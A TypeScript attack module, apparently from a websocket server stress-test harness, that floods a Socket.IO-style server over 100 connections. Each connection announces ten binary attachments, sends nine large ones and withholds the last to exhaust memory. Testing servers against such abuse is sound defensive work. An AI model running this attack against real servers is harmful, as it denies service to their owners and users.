import type { Attack } from '../harness.ts';
import { BINARY, closed, ended, frame, persist, upgrade } from '../raw.ts';

const ten = Array.from({ length: 10 }, (_, num) => ({ _placeholder: true, num }));
const announced = frame(`4510-${JSON.stringify(['open', ...ten])}`);
const attachment = frame(Buffer.alloc(120_000, 1), BINARY);

export const attack: Attack = {
  name: 'placeholders',
  about: 'announces ten attachments, sends nine large ones and keeps the server waiting for the last',
  cut: 'closed',
  run: (target) =>
    persist(
      target,
      100,
      (socket) => upgrade(socket, { port: target.port }),
      async (socket) => {
        socket.resume().write(frame('40'));
        socket.write(announced);
        for (let i = 0; i < 9; i++) socket.write(attachment);
        await Promise.race([closed(socket, target), ended(target.signal)]);
      },
    ),
};
